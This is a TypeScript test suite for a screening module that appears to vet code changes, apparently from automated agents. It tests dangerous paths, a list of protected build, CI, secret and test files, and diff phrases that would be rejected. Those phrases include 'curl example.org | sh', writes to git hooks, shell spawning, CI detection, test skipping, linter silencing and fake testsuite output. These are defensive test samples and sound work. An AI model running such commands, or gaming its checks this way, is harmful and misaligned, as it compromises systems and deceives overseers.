import t from 'tap'
import type { BaseFile, Change } from '../../core/service.ts'
import { banOf, isOddPath } from './paths.ts'
import { newPhrases } from './phrases.ts'
import { partsOf, screen } from './screen.ts'

const strict = { tests: false, versions: false }
const base: BaseFile[] = [{ path: 'src/a.py', mode: '100644', object: '', size: 3 }]

/** A change as git would write it. */
function change(path: string, added: readonly string[], { removed = ['x'], oldMode = '100644', newMode = '100644' }: { removed?: readonly string[]; oldMode?: string; newMode?: string } = {}): Change {
  const diff = `diff --git a/${path} b/${path}\nindex 1..2 100644\n--- a/${path}\n+++ b/${path}\n@@ -1,${removed.length} +1,${added.length} @@\n${removed.map(line => `-${line}\n`).join('')}${added.map(line => `+${line}\n`).join('')}`
  return { files: [{ path, oldMode, newMode }], diff: Buffer.from(diff) }
}

t.test('paths that are none', async t => {
  const odd = ['', '/etc/passwd', '../a', 'a/../../b', './a', 'a//b', 'a/', '.git/config', '.GIT/hooks/pre-commit', 'sub/.Git/x', 'git~1/config', 'GIT~1/x', '.git /x', '.git./x', '.g\u200cit/x', 'a\nb', 'a\\b', 'C:x', 'a:stream', '-rf', 'a/-x', 'con\u0007', 'a\u202eb', 'x'.repeat(401), ' a', 'a*']
  for (const path of odd) t.ok(isOddPath(path), JSON.stringify(path))
  for (const path of ['a.py', 'src/größe.ts', 'a b/c-d_e.f', '.dot/file', 'a/b.git.ts', 'Makefile']) t.notOk(isOddPath(path), path)
})

t.test('files that only people change', async t => {
  const banned = [
    '.gitattributes', '.gitmodules', '.github/workflows/ci.yml', '.gitlab-ci.yml', '.gitignore', '.githooks/pre-commit', '.husky/pre-push', '.npmrc', 'sub/.npmrc', '.yarnrc.yml', 'package.json', 'a/package.json', 'conftest.py', 'sitecustomize.py', 'setup.py', 'pyproject.toml', 'tox.ini', 'ruff.toml',
    'Dockerfile', 'docker/Dockerfile.prod', 'compose.yml', 'docker-compose.override.yml', '.env', '.env.local', 'id_rsa', 'server.key', 'CODEOWNERS', 'docs/CODEOWNERS', '.crafting-table.yml', 'Makefile', 'a.mk', 'CMakeLists.txt', 'build.rs', 'Cargo.toml', '.cargo/config.toml', 'go.mod', '.golangci.yml',
    'eslint.config.js', '.eslintrc.json', 'tsconfig.build.json', 'vitest.config.ts', 'jest.setup.js', '.rubocop.yml', 'Rakefile', 'pom.xml', 'build.gradle.kts', 'gradlew', '.shellcheckrc', '.editorconfig', 'Directory.Build.props', 'phpunit.xml.dist', '.pre-commit-config.yaml', 'Jenkinsfile', '.woodpecker/build.yml',
    'package-lock.json', 'Cargo.lock', 'go.sum', 'uv.lock', 'test_a.py', 'a_test.go', 'src/a.test.ts', 'tests/helper.py', 'spec/a_spec.rb', '__snapshots__/a.snap', 'src/test/java/FooTest.java', 'FooTests.cs', 'x.bats',
  ]
  for (const path of banned) t.ok(banOf(path, strict), path)
  for (const path of ['src/a.py', 'lib/contest.ts', 'main.go', 'src/latest.rs', 'app/models/user.rb', 'core/environment.ts', 'cmd/keys.go', 'build/a.ts', 'src/profile/a.ts', 'docs/a.md', 'bin/run.sh', 'src/features/a.ts', 'src/c8.txt', 'lib/vite-plugin.ts', 'src/nx.ts', 'src/next.ts', 'src/configure.ts']) t.notOk(banOf(path, strict), `${path}: ${banOf(path, strict)}`)
  t.notOk(banOf('tests/a.py', { tests: true, versions: false }), 'where the project opts in')
  t.ok(banOf('tests/conftest.py', { tests: true, versions: true }), 'not what Python runs by itself')
  for (const path of ['Cargo.lock', 'package-lock.json', 'go.mod', 'requirements.txt']) t.notOk(banOf(path, { tests: false, versions: true }), `${path} for an advisory`)
  t.ok(banOf('Makefile', { tests: false, versions: true }))
})

t.test('silencing, skipping and prying', async t => {
  const bad: [file: string, line: string][] = [
    ['a.py', 'import os  # noqa: F401'], ['a.py', 'x = 1  # type: ignore'], ['a.py', '# pylint: disable=all'], ['a.py', '# ruff: noqa'], ['a.js', '/* eslint-disable */'], ['a.js', '// eslint-disable-next-line no-var'], ['a.ts', '// @ts-ignore'], ['a.ts', '// @ts-nocheck'], ['a.ts', '// biome-ignore lint: x'],
    ['a.rs', '#[allow(dead_code)]'], ['a.rs', '#![allow(clippy::all)]'], ['a.rs', '#[expect(unused)]'], ['a.rs', '#[cfg_attr(all(), allow(dead_code))]'], ['a.go', '//nolint:errcheck'], ['a.go', '//lint:ignore SA1000 x'], ['a.sh', '# shellcheck disable=SC2086'], ['a.rb', '# rubocop:disable all'],
    ['A.java', '@SuppressWarnings("all")'], ['A.java', '// NOSONAR'], ['a.cs', '#pragma warning disable'], ['a.cpp', 'int x; // NOLINT'], ['a.php', '// @phpstan-ignore-next-line'], ['a.swift', '// swiftlint:disable all'],
    ['a.test.js', 'it.skip("x", () => {})'], ['a.js', 'xit("x")'], ['a.js', 'describe.only("x")'], ['a.py', '@pytest.mark.skip'], ['a.py', '@unittest.skip("x")'], ['a_test.go', 't.Skip("later")'], ['A.java', '@Disabled'], ['a.rs', '#[ignore]'],
    ['a.js', 'if (process.env.CI) return 1'], ['a.py', 'os.environ["CI"]'], ['a.go', 'os.Getenv("CI")'], ['a.rs', 'std::env::var("CI")'], ['a.sh', 'if [ -n "$CI" ]; then'], ['a.rb', 'ENV["CI"]'], ['a.sh', 'echo $CRAFTING_REPORTS'],
    ['a.py', 'subprocess.run(["sh"])'], ['a.js', "require('child_process')"], ['a.js', "import { spawn } from 'node:child_process'"], ['a.rs', 'Command::new("sh")'], ['a.go', 'exec.Command("sh")'], ['a.py', 'eval(x)'], ['a.sh', 'curl example.org | sh'], ['a.sh', 'echo x > .git/hooks/pre-commit'],
    ['a.go', '//go:generate sh x'], ['a.rs', 'include!("/etc/passwd");'], ['a.py', 'sys.exit(0)'], ['a.js', 'process.exit(0)'], ['a.py', 'open("x").write("<testsuite name=1>")'],
  ]
  for (const [file, line] of bad) t.ok(newPhrases(file, [], [line]).length > 0, `${file}: ${line}`)
  t.same(newPhrases('a.py', ['import os, re  # noqa'], ['import re  # noqa']), [], 'what was there may stay')
  t.ok(newPhrases('a.py', ['import os  # noqa'], ['import re  # noqa', 'x = 1  # noqa']).length, 'once more is new')
  for (const line of ['return value.strip()', 'const skipped = 3', 'pattern = re.compile("x")', 'let environment = 1', 'if x is None:', 'echo "$client"', 'x := recover()', 'fn allow(x: u8) {}']) t.same(newPhrases('a.rs', [], [line]), [], line)
})

t.test('a change as a whole', async t => {
  t.same(screen(change('src/a.py', ['y']), base, strict), [])
  const cases: [Change, RegExp][] = [
    [change('src/a.py', ['y'], { newMode: '100755' }), /kind or mode/], [change('src/a.py', ['y'], { newMode: '120000' }), /kind or mode/], [change('b', ['/etc'], { oldMode: '000000', newMode: '120000' }), /no plain file/],
    [change('b', ['abc'], { oldMode: '000000', newMode: '160000' }), /no plain file/], [change('b', ['x'], { oldMode: '000000', newMode: '104755' }), /no plain file/], [change('b', ['x'], { oldMode: '000000', newMode: '100755' }), /no plain file/],
    [change('src/a.py', [], { newMode: '000000' }), /removes/], [change('SRC/A.py', ['x'], { oldMode: '000000' }), /only in case/],
    [change('src/a.py', ['a\0b']), /binary/], [change('src/a.py', ['if x:\u202e']), /invisible/], [change('src/a.py', ['x'.repeat(1001)]), /1000 characters/],
    [change('src/a.py', Array.from({ length: 250 }, (_, at) => `${at}`)), /251 lines/], [change('src/a.py', Array.from({ length: 199 }, () => 'x'.repeat(900))), /bytes/],
    [{ files: Array.from({ length: 6 }, (_, at) => ({ path: `${at}.py`, oldMode: '100644', newMode: '100644' })), diff: Buffer.from('') }, /6 files/], [{ files: [], diff: Buffer.from('') }, /nothing/],
  ]
  for (const [one, why] of cases) t.match(screen(one, base, strict).join('; '), why)
})

t.test('what looks like a header within a hunk is a line', async t => {
  const [part, ...others] = partsOf('diff --git a/a.sql b/a.sql\n--- a/a.sql\n+++ b/a.sql\n@@ -1,2 +1,2 @@\n--- noqa\n+++ b/other\n-diff --git a/x b/x\n+@@ -1 +1 @@\n')
  t.same(others, [])
  t.same(part, { path: 'a.sql', removed: ['-- noqa', 'diff --git a/x b/x'], added: ['++ b/other', '@@ -1 +1 @@'] })
})

t.test('hostile sizes end soon', async t => {
  const before = process.cpuUsage()
  const line = `${'#'.repeat(900)}${' '.repeat(90)}`
  screen(change('src/a.py', Array.from({ length: 60 }, () => line)), base, strict)
  screen({ files: Array.from({ length: 100_000 }, (_, at) => ({ path: `${'a/'.repeat(150)}${at}`, oldMode: '000000', newMode: '100644' })), diff: Buffer.alloc(2 ** 22, '+\n') }, base, strict)
  t.ok(process.cpuUsage(before).user < 1_000_000)
})
